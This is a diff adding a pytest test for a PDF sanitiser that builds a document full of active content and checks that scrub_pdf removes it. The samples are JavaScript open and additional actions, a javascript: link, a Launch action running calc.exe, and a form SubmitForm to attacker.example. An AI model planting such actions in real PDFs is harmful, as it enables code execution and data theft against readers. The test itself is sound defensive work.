@@ -5,6 +5,7 @@ script, the written HTML runs no script, and preview runs only its own reload sc
 from __future__ import annotations
 
 import http.client
+import io
 import re
 from collections.abc import Iterator
 from pathlib import Path
@@ -13,7 +14,7 @@ import pikepdf
 import pytest
 import tinyhtml5
 
-from briefpack.render.scrub import HTML_POLICY, safe_link, style_text, with_policy
+from briefpack.render.scrub import HTML_POLICY, safe_link, scrub_pdf, style_text, with_policy
 
 from conftest import REPO, run
 
@@ -246,6 +247,62 @@ def test_a_pdf_link_is_kept_only_to_an_anchor_or_a_web_or_mail_address(
     link_type: str, target: str, kept: bool
 ) -> None:
     assert safe_link(link_type, target) is kept
+
+
+def action(**keys: object) -> pikepdf.Dictionary:
+    return pikepdf.Dictionary(Type=pikepdf.Name.Action, **keys)
+
+
+def link(target: pikepdf.Dictionary | None = None, **keys: object) -> pikepdf.Dictionary:
+    if target is not None:
+        keys["A"] = target
+    return pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, **keys)
+
+
+def test_the_pdf_pass_removes_whatever_acts_and_keeps_web_mail_and_inner_links() -> None:
+    """The second line of defence, for a road WeasyPrint does not take today."""
+    document = pikepdf.new()
+    document.add_blank_page()
+    script = action(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
+    document.Root.OpenAction = script
+    document.Root.AA = pikepdf.Dictionary(WC=script)
+    document.Root.AF = pikepdf.Array([])
+    document.Root.Names = pikepdf.Dictionary(
+        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), script])),
+        EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array([])),
+    )
+    page = document.pages[0].obj
+    page.AA = pikepdf.Dictionary(O=script)
+    web = action(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.com/"))
+    kept = [
+        link(web),
+        link(Dest=pikepdf.String("session-one")),
+        link(action(S=pikepdf.Name.GoTo, D=pikepdf.String("day-one"))),
+    ]
+    hostile = [
+        link(script),
+        link(action(S=pikepdf.Name.URI, URI=pikepdf.String("javascript:app.alert(1)"))),
+        link(action(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe"))),
+        link(action(S=pikepdf.Name.URI, URI=pikepdf.String("https://x.example/"), Next=script)),
+        link(web, AA=pikepdf.Dictionary(E=script)),
+    ]
+    attachment = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment)
+    page.Annots = document.make_indirect(pikepdf.Array([*kept, *hostile, attachment]))
+    submit = action(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://attacker.example/"))
+    field = pikepdf.Dictionary(FT=pikepdf.Name.Btn, A=submit, AA=pikepdf.Dictionary(K=script))
+    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))
+    assert active_content(document) != []
+
+    assert scrub_pdf(document) == 14
+    saved = io.BytesIO()
+    document.save(saved)
+    with pikepdf.open(saved) as scrubbed:
+        assert active_content(scrubbed) == []
+        annotations = scrubbed.pages[0].obj.Annots
+        assert len(annotations) == len(kept) + len(hostile)
+        assert uris(scrubbed) == {"https://example.com/"}
+        assert str(annotations[2].A.S) == "/GoTo"
+        assert "/Dest" in annotations[1]
 
 
 def test_style_text_leaves_no_end_tag_and_changes_nothing_else() -> None:
